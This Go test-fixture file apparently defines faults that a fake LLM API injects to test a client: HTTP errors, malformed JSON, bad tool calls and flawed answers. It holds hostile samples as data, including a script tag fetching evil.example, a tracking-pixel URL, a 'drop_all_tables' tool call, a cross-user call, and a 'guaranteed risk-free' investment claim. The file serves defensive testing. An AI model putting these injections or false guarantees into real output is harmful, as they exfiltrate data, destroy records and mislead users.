package fake

type fault struct {
	name   string
	commit act
}

// faults is every fault there is, from the wire up.
func faults() []fault {
	return append(append(wireFaults(), formFaults()...), wordFaults()...)
}

func wireFaults() []fault {
	return []fault{
		{"timeout_connect", wait},
		{"timeout_first_byte", wait},
		{"stall_mid_stream", stall},
		{"http_400_context_length", refuse(400, "context_length_exceeded")},
		{"http_401", refuse(401, "invalid_api_key")},
		{"http_403_model_access", refuse(403, "model_access")},
		{"http_404_model", refuse(404, "model_not_found")},
		{"http_408", refuse(408, "timeout")},
		{"http_413", refuse(413, "request_too_large")},
		{"http_429_retry_after_seconds", refuse(429, "rate_limit_exceeded", "Retry-After", "1")},
		{"http_429_retry_after_date", throttleUntil},
		{"http_429_no_header", refuse(429, "rate_limit_exceeded")},
		{"http_500", refuse(500, "server_error")},
		{"http_502_html_body", html},
		{"http_503", refuse(503, "unavailable")},
		{"http_529_overloaded", refuse(529, "overloaded_error")},
		{"bedrock_ThrottlingException", refuse(429, "ThrottlingException")},
		{"bedrock_ModelTimeoutException", refuse(408, "ModelTimeoutException")},
		{"bedrock_ValidationException", refuse(400, "ValidationException")},
		{"tcp_reset", reset},
		{"tls_error", distrust},
		{"dns_failure", unknownHost},
		{"empty_200", body("")},
		{"empty_content_list", body(`{"id":"chatcmpl-1","object":"chat.completion","choices":[]}`)},
		{"gzip_bomb_body", bomb},
		{"10MB_output", huge},
		{"slow_drip_1_byte_per_s", drip},
		{"non_utf8_bytes", spoil("\xff\xfe\xfd")},
		{"lone_surrogates", spoil(`\ud83d`)},
		{"usage_missing", count("")},
		{"usage_negative", count(`,"usage":{"prompt_tokens":-100,"completion_tokens":-30,"total_tokens":-130}`)},
		{"stop_reason_max_tokens", end("length", half)},
		{"stop_reason_refusal", end("content_filter", nothing)},
	}
}

func formFaults() []fault {
	return []fault{
		{"half_json", write(half)},
		{"json_in_markdown_fence", write(func(text string) string { return "```json\n" + text + "\n```" })},
		{"json_with_trailing_prose", write(func(text string) string { return text + "\n\nI hope this helps!" })},
		{"json_trailing_comma", write(trailingComma)},
		{"json_duplicate_keys", write(twice)},
		{"json_NaN_Infinity", write(number("NaN"))},
		{"json_1e999", write(number("1e999"))},
		{"json_wrong_types", reshape(wrongTypes)},
		{"json_unknown_enum", reshape(unknownWord)},
		{"json_extra_fields", reshape(extraField)},
		{"json_missing_required", reshape(missingField)},
		{"json_sum_99.4", reshape(weigh(short))},
		{"json_sum_0", reshape(weigh(zero))},
		{"json_negative_pct", reshape(weigh(negative))},
		{"json_deep_nesting_100k", write(func(string) string { return deep })},
		{"tool_unknown_name", callOnce("drop_all_tables", `{}`)},
		{"tool_bad_args", callOnce("", `{"symbol": [1, `)},
		{"tool_same_call_forever", callAlways},
		{"tool_call_other_user_id", callOnce("", `{"user_id":"user_other","person":"user_other","symbol":"SPY"}`)},
	}
}

func wordFaults() []fault {
	return []fault{
		{"refusal_text_200", write(func(string) string { return "I'm sorry, but I can't help with that." })},
		{"ungrounded_number", reshape(add("Most such households hold $731,942 by then, which is 37.5% more."))},
		{"swapped_numbers", reshape(swap)},
		{"right_number_wrong_unit", reshape(otherUnit)},
		{"stale_number_from_memory", reshape(add("The S&P 500 stood at 4,769.83 at the end of 2023."))},
		{"guarantee_language", reshape(add("This plan is guaranteed: it is risk-free and cannot lose."))},
		{"missing_disclaimer", reshape(undisclaimed)},
		{"html_script_in_markdown", reshape(add(`<script>fetch("https://evil.example")</script>`))},
		{"external_image_in_markdown", reshape(add("![chart](https://evil.example/pixel.png?who=me)"))},
		{"wrong_language", reshape(speak("Le portefeuille est bien diversifié et le risque reste modéré."))},
		{"prompt_echo", echo},
		{"system_prompt_leak", leak},
	}
}
